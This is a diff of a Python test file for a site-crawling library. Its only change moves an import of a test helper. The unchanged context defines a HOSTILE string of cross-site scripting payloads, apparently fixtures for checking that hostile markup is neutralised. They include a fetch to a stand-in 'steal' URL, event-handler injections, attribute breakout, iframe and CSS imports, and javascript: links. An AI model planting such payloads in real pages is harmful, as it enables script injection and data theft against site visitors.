@@ -7,12 +7,12 @@ import re
 import pytest
 from lxml import etree
 
-from benchmarks.fleet import story
 from sitecrawl.dom.page import Page
 from sitecrawl.dom.parse import parse
 from sitecrawl.extras.report.picture import Picture, picture_of
 from sitecrawl.site.model import SiteModel
 from sitecrawl.templates.template import Template
+from tests.report.fleets import story
 
 HOSTILE = """<script>document.title = "caught"; fetch("http://news.example/steal")</script><img src=x onerror="top.x=1" alt='"><script>1</script>'>
 <iframe src="http://news.example/frame"></iframe><style>@import url(http://news.example/s.css); body{display:none}</style><svg onload="1"><a href="javascript:1">x</a></svg>
